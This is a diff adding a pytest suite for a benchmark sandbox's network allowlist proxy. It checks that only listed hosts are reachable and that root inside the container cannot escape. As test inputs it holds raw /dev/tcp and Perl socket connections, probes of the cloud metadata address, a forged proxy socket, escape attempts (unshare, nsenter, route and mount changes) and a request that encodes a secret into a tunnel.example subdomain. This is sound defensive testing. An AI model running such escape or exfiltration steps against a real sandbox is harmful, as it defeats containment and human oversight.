@@ -1,0 +1,389 @@
+"""The network `allowlist` in real containers: what is reached, what is not, and that nothing inside can change it."""
+
+from __future__ import annotations
+
+import contextlib
+import http.server
+import ipaddress
+import json
+import socket
+import subprocess
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pytest_benchjobs.model.errors import EngineError, EnvironmentFailed
+from pytest_benchjobs.model.scenario import Environment, Network
+from pytest_benchjobs.sandbox import proxy
+from pytest_benchjobs.sandbox.docker.container import DockerSandbox
+from pytest_benchjobs.sandbox.docker.provider import DockerProvider
+from pytest_benchjobs.sandbox.door import door_program
+from pytest_benchjobs.sandbox.protocol import File, SandboxSpec
+from tests.support import IMAGE, results, run
+
+pytestmark = pytest.mark.docker
+
+PUBLIC = "93.184.216.34"
+_ASK = """
+IFS=: read -r host port <<<"${http_proxy#http://}"
+exec 3<>"/dev/tcp/$host/$port" && printf 'GET %s HTTP/1.1\\r\\n\\r\\n' "$1" >&3 && cat <&3
+"""
+"""Asks the proxy that the environment names for a URL."""
+_CONNECT = """
+use Socket; my ($host, $port) = @ARGV;
+socket(my $s, PF_INET, SOCK_STREAM, 0) or die;
+$SIG{ALRM} = sub { print "timed out"; exit }; alarm 3;
+my $address = inet_aton($host) or do { print "no such name"; exit };
+print connect($s, sockaddr_in($port, $address)) ? "connected" : "$!";
+"""
+_UDP = """
+use Socket; my ($host, $port) = @ARGV;
+socket(my $s, PF_INET, SOCK_DGRAM, 0) or die;
+print send($s, "hello", 0, sockaddr_in($port, inet_aton($host))) ? "sent" : "$!";
+"""
+_ASK_FORGED = """
+exec 3<>/dev/tcp/127.0.0.1/4999 && printf 'GET http://good.example/ HTTP/1.1\\r\\n\\r\\n' >&3
+timeout 2 cat <&3; echo "status $?"
+"""
+
+
+class _Site(http.server.BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        body = f"hello from {self.headers['Host']}".encode()
+        self.send_response(302 if self.path == "/elsewhere" else 200)
+        if self.path == "/elsewhere":
+            self.send_header("Location", "http://evil.example/")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+@pytest.fixture
+def site() -> Iterator[int]:
+    """A service of this machine on all of its addresses; its port."""
+    with http.server.ThreadingHTTPServer(("0.0.0.0", 0), _Site) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield server.server_port
+        server.shutdown()
+
+
+@pytest.fixture
+def asked(monkeypatch: pytest.MonkeyPatch, site: int) -> list[str]:
+    """Names that were resolved. All are at an address of the internet, where the site is."""
+    names: list[str] = []
+
+    async def resolve(name: str, port: int) -> list[Any]:
+        names.append(name)
+        return [ipaddress.ip_address(PUBLIC)]
+
+    async def connect(address: Any, port: int) -> socket.socket:
+        connection = socket.create_connection(("127.0.0.1", site))
+        connection.setblocking(False)
+        return connection
+
+    monkeypatch.setattr(proxy, "resolve", resolve)
+    monkeypatch.setattr(proxy, "_connect", connect)
+    return names
+
+
+@contextlib.contextmanager
+def _sandbox(
+    provider: DockerProvider, *hosts: str, network: Network = "allowlist", **environment: Any
+) -> Iterator[DockerSandbox]:
+    spec = SandboxSpec(
+        Environment(image=IMAGE, workdir="/", **environment),
+        {},
+        network,
+        deadline=300,
+        allowed_hosts=hosts,
+        limited=True,
+    )
+    sandbox = provider.start(spec, lambda phase: None)
+    try:
+        yield sandbox
+    finally:
+        sandbox.remove()
+
+
+def _said(sandbox: DockerSandbox, *argv: str, user: str | None = None) -> str:
+    output = bytearray()
+    sandbox.exec(argv, timeout=60, sink=output.extend, user=user)
+    return output.decode()
+
+
+def _ask(sandbox: DockerSandbox, url: str, user: str | None = None) -> str:
+    said = _said(sandbox, "/bin/bash", "-c", _ASK, "ask", url, user=user)
+    return (
+        said.split("\r\n")[0].removeprefix("HTTP/1.1 ").removeprefix("HTTP/1.0 ")
+        + said.partition("\r\n\r\n")[2]
+    )
+
+
+def test_what_is_listed_is_reached_and_nothing_else(
+    provider: DockerProvider, asked: list[str], site: int
+) -> None:
+    with _sandbox(provider, "good.example", "*.sub.example") as sandbox:
+        for user in (None, "1234"):
+            assert _ask(sandbox, "http://good.example/", user) == "200 OKhello from good.example"
+        assert _ask(sandbox, "http://a.sub.example/").startswith("200 ")
+        assert _ask(sandbox, "http://good.example/elsewhere").startswith("302 ")
+        assert asked == ["good.example"] * 2 + ["a.sub.example", "good.example"]
+        assert sandbox.refused() == ()
+        assert _ask(sandbox, "http://evil.example/") == (
+            "403 Forbiddenbenchjobs: evil.example:80: not among the allowed hosts: good.example, *.sub.example\n"
+        )
+        assert _ask(sandbox, "http://dGhlIGtleQ.tunnel.example/").startswith("403 ")
+        assert _ask(sandbox, f"http://{PUBLIC}/").startswith("403 ")
+        assert _ask(sandbox, f"http://127.0.0.1:{site}/").startswith("403 ")
+        assert len(asked) == 4  # what is not listed is not even looked up
+        assert len(sandbox.refused()) == 4
+        assert sandbox.notes == ()
+
+
+def test_nothing_leads_out_beside_the_proxy(provider: DockerProvider, asked: list[str], site: int) -> None:
+    with _sandbox(provider, "good.example", "0.0.0.0/0") as sandbox:
+        assert _said(sandbox, "ls", "/sys/class/net") == "lo\n"
+        gateway = json.loads(subprocess.run(["docker", "network", "inspect", "bridge"], capture_output=True, check=True).stdout)  # fmt: skip
+        machine = gateway[0]["IPAM"]["Config"][0].get("Gateway", "172.17.0.1")
+        for host in (PUBLIC, machine, "169.254.169.254"):
+            assert _said(sandbox, "perl", "-e", _CONNECT, host, str(site)) == "Network is unreachable"
+            assert _said(sandbox, "perl", "-e", _UDP, host, "53") == "Network is unreachable"
+        assert _said(sandbox, "perl", "-e", _CONNECT, "good.example", "80") == "no such name"
+        assert _said(sandbox, "getent", "hosts", "good.example") == ""
+        assert _ask(sandbox, f"http://{machine}:{site}/").startswith("403 ")
+        assert _ask(sandbox, "http://169.254.169.254/").startswith("403 ")
+        assert asked == []
+
+
+def test_root_in_the_container_cannot_change_it(provider: DockerProvider, asked: list[str]) -> None:
+    with _sandbox(provider, "good.example") as sandbox:
+        for attempt in (
+            "mount --bind /etc/hostname /bench/proxy.sock",
+            "umount /bench/proxy.sock",
+            "rm -f /bench/proxy.sock",
+            "ip link add x type dummy",
+            "ip route add default dev lo",
+            "unshare -n true",
+            "nsenter -t 1 -n true && false",
+        ):
+            assert "0" not in _said(sandbox, "/bin/bash", "-c", f"{{ {attempt}; }} >/dev/null 2>&1; echo $?").split(), attempt  # fmt: skip
+        _said(
+            sandbox, "/bin/bash", "-c", "rm -f /bench/proxy-door; echo 'exec sleep 300' > /bench/proxy-door"
+        )
+        assert _ask(sandbox, "http://good.example/").startswith("200 ")
+        assert _ask(sandbox, "http://evil.example/").startswith("403 ")
+        sandbox._restart()
+        assert _ask(sandbox, "http://good.example/").startswith("200 ")
+        assert _ask(sandbox, "http://evil.example/").startswith("403 ")
+        assert asked == ["good.example"] * 2
+
+
+def test_a_socket_that_the_agent_hands_over_is_served_by_nobody(
+    provider: DockerProvider, asked: list[str]
+) -> None:
+    forged = door_program(provider.machine(), port=4999, path="/bench/proxy.sock", becomes=False)
+    with _sandbox(provider, "good.example") as sandbox:
+        sandbox.put([File("/tmp/forge", content=forged, mode=0o755)])
+        result = sandbox.exec(["/tmp/forge"], timeout=20, sink=lambda data: None)
+        assert result.exit_status == 0
+        assert _said(sandbox, "/bin/bash", "-c", _ASK_FORGED) == "status 124\n"
+        sandbox.exec(["/tmp/forge"], timeout=20, sink=lambda data: None)
+        sandbox._restart()  # what was handed over before is not taken for that of the next start
+        assert _ask(sandbox, "http://good.example/").startswith("200 ")
+        assert asked == ["good.example"]
+
+
+def test_the_network_can_change_while_it_runs(provider: DockerProvider, asked: list[str], site: int) -> None:
+    with _sandbox(provider, network="none") as sandbox:
+        assert _said(sandbox, "printenv", "http_proxy") == ""
+        sandbox.set_network("allowlist", ["good.example"])
+        assert _ask(sandbox, "http://good.example/").startswith("200 ")
+        sandbox.set_network("allowlist", ["other.example"])
+        assert _ask(sandbox, "http://good.example/").startswith("403 ")
+        assert _ask(sandbox, "http://other.example/").startswith("200 ")
+        sandbox.set_network("public")
+        assert "eth0" in _said(sandbox, "ls", "/sys/class/net")
+        assert _said(sandbox, "printenv", "http_proxy") == ""
+        sandbox.set_network("allowlist", ["good.example"])
+        assert _said(sandbox, "ls", "/sys/class/net") == "lo\n"
+        assert _ask(sandbox, "http://good.example/").startswith("200 ")
+        sandbox.end_processes()
+        assert _ask(sandbox, "http://good.example/").startswith("200 ")
+        sandbox.set_network("none")
+        assert _said(sandbox, "/bin/bash", "-c", f"http_proxy=http://127.0.0.1:4181; set -- http://good.example/; {_ASK}").startswith("HTTP/1.1 403 ")  # fmt: skip
+
+
+def test_each_container_has_its_own_list(provider: DockerProvider, asked: list[str]) -> None:
+    with _sandbox(provider, "one.example") as one, _sandbox(provider, "two.example") as two:
+        for sandbox, mine, other in ((one, "one", "two"), (two, "two", "one")):
+            assert _ask(sandbox, f"http://{mine}.example/").startswith("200 ")
+            assert _ask(sandbox, f"http://{other}.example/").startswith("403 ")
+
+
+def test_only_a_container_that_was_started_for_it_can_be_limited(provider: DockerProvider) -> None:
+    spec = SandboxSpec(Environment(image=IMAGE, workdir="/"), {}, "none", deadline=300)
+    sandbox = provider.start(spec, lambda phase: None)
+    try:
+        with pytest.raises(EngineError, match="was not started for the network `allowlist`"):
+            sandbox.set_network("allowlist", ["a.org"])
+        assert sandbox.refused() == ()
+    finally:
+        sandbox.remove()
+
+
+def test_an_engine_elsewhere_cannot_limit_a_network(
+    provider: DockerProvider, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(type(provider.engine), "local", False)
+    with (
+        pytest.raises(EnvironmentFailed, match="needs an engine on this machine"),
+        _sandbox(provider, "a.org"),
+    ):
+        pass
+
+
+# Trials
+
+_CONFTEST = """
+import ipaddress
+from pytest_benchjobs.sandbox import proxy
+
+async def resolve(name, port):
+    return [ipaddress.ip_address("MACHINE")]
+
+proxy.resolve = resolve
+"""
+
+
+@pytest.fixture
+def machine() -> str:
+    """An address of this machine, which a list may name."""
+    found = json.loads(
+        subprocess.run(["docker", "network", "inspect", "bridge"], capture_output=True, check=True).stdout
+    )
+    subnet = found[0]["IPAM"]["Config"][0]["Subnet"]
+    return str(next(ipaddress.IPv4Network(subnet).hosts()))
+
+
+def _script(url: str) -> str:
+    return f"set -- {url}; {_ASK}"
+
+
+def _log(path: Path, result: dict[str, Any]) -> str:
+    return (path / "reports/jobs" / result["job"] / result["path"] / "agent.log").read_text()
+
+
+def test_a_native_scenario_has_a_list_for_each_phase(tmp_path: Path, site: int, machine: str) -> None:
+    (tmp_path / "conftest.py").write_text(_CONFTEST.replace("MACHINE", machine))
+    agent = "\n".join(
+        f"( {_script(f'http://{name}.example:{site}/')} ) | tail -n 1 > {name}.txt"
+        for name in ("agent", "scorer", "setup")
+    )
+    scorer = f"""
+grep -q 'hello from agent' agent.txt && grep -q 'not among the allowed hosts' scorer.txt || exit 1
+( {_script(f"http://agent.example:{site}/")} ) | grep -q 'not among' || exit 1
+( {_script(f"http://scorer.example:{site}/")} ) | grep -q 'hello from scorer' && echo 1
+"""
+    manifest = {
+        "benchmark": "listed",
+        "scenarios": [
+            {
+                "id": "phases",
+                "problem_statement": "Ask.",
+                "reference": agent,
+                "image": IMAGE,
+                "workdir": "/app",
+                "network": "allowlist",
+                "allowed_hosts": ["setup.example", machine],
+                "agent_allowed_hosts": ["agent.example", machine],
+                "setup": [f"( {_script(f'http://setup.example:{site}/')} ) | grep hello"],
+                "scorers": [
+                    {
+                        "name": "asks",
+                        "type": "bash",
+                        "script": scorer,
+                        "network": "allowlist",
+                        "allowed_hosts": ["scorer.example", machine],
+                    }
+                ],
+            }
+        ],
+    }
+    (tmp_path / "listed.bench.yaml").write_text(json.dumps(manifest))
+    done = run(tmp_path, "listed.bench.yaml")
+    (result,) = results(tmp_path)
+    assert result["outcome"] == "passed", done.stdout
+    refused = (
+        f"the network refused scorer.example:{site}: not among the allowed hosts: agent.example, {machine}"
+    )
+    assert f"agent: {refused}" in result["notes"]
+    assert f"benchjobs: {refused}" in _log(tmp_path, result)
+    assert any(
+        note.startswith(f"scorer asks: the network refused agent.example:{site}") for note in result["notes"]
+    )
+
+
+def test_a_harbor_task_has_a_list_for_each_phase(tmp_path: Path, site: int, machine: str) -> None:
+    (tmp_path / "conftest.py").write_text(_CONFTEST.replace("MACHINE", machine))
+    task = tmp_path / "tasks" / "listed"
+    for name in ("environment", "tests", "solution"):
+        (task / name).mkdir(parents=True)
+    (task / "instruction.md").write_text("Ask.\n")
+    (task / "task.toml").write_text(
+        f"""
+schema_version = "1.4"
+[environment]
+docker_image = "{IMAGE}"
+workdir = "/tmp"
+network_mode = "no-network"
+[agent]
+network_mode = "allowlist"
+allowed_hosts = ["agent.example", "{machine}"]
+[verifier]
+network_mode = "allowlist"
+allowed_hosts = ["*.verifier.example", "{machine}"]
+"""
+    )
+    (task / "solution" / "solve.sh").write_text(
+        f"#!/bin/bash\n( {_script(f'http://agent.example:{site}/')} ) > /tmp/agent.txt\n"
+        f"( {_script(f'http://x.verifier.example:{site}/')} ) > /tmp/other.txt\n"
+    )
+    (task / "tests" / "test.sh").write_text(
+        f"""#!/bin/bash
+grep -q 'hello from agent' /tmp/agent.txt && grep -q '403 Forbidden' /tmp/other.txt || exit 1
+( {_script(f"http://agent.example:{site}/")} ) | grep -q '403 Forbidden' || exit 1
+( {_script(f"http://x.verifier.example:{site}/")} ) | grep -q 'hello from' && echo 1 > /logs/verifier/reward.txt
+"""
+    )
+    done = run(tmp_path, "tasks/listed")
+    (result,) = results(tmp_path)
+    assert result["outcome"] == "passed", done.stdout
+    assert any(note.startswith("agent: the network refused x.verifier.example") for note in result["notes"])
+
+
+def test_a_set_up_step_that_was_refused_tells_why(tmp_path: Path, site: int, machine: str) -> None:
+    manifest = {
+        "benchmark": "listed",
+        "scenarios": [
+            {
+                "id": "setup",
+                "problem_statement": "Ask.",
+                "image": IMAGE,
+                "network": "allowlist",
+                "allowed_hosts": ["pypi.example"],
+                "setup": [f"set -- http://{machine}:{site}/\n{_ASK}\nexit 7"],
+                "scorers": [{"type": "bash", "script": "echo 1"}],
+            }
+        ],
+    }
+    (tmp_path / "listed.bench.yaml").write_text(json.dumps(manifest))
+    run(tmp_path, "listed.bench.yaml", "--bench-agent", "nop")
+    (result,) = results(tmp_path)
+    assert (result["outcome"], result["failure"]["class"]) == ("error", "environment")
+    assert f"the network refused {machine}:{site}: an address of this machine" in result["failure"]["message"]
